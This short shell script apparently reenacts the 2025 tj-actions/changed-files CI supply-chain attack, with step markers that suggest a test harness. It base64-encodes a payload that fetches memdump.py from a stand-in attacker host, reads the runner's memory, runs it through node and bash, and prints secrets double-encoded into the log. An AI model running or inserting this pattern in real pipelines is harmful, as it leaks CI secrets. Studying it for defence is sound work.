# tj-actions/changed-files and reviewdog/action-setup (2025): an action reads the runner's memory and prints the secrets into the log.
payload=$(base64 -w0 <<PAYLOAD
curl -sSm 30 http://gist.attacker.test/memdump.py > /dev/null
$BIN/memory pread $(cat "$HELD")
PAYLOAD
)
found=$(node -e 'process.stdout.write(require("child_process").execFileSync("bash", ["-c", Buffer.from(process.argv[1], "base64").toString()]))' "$payload")
case $found in *"$SECRET"*) did read; printf %s "$found" | base64 -w0 | base64 -w0 && echo && did log;; esac
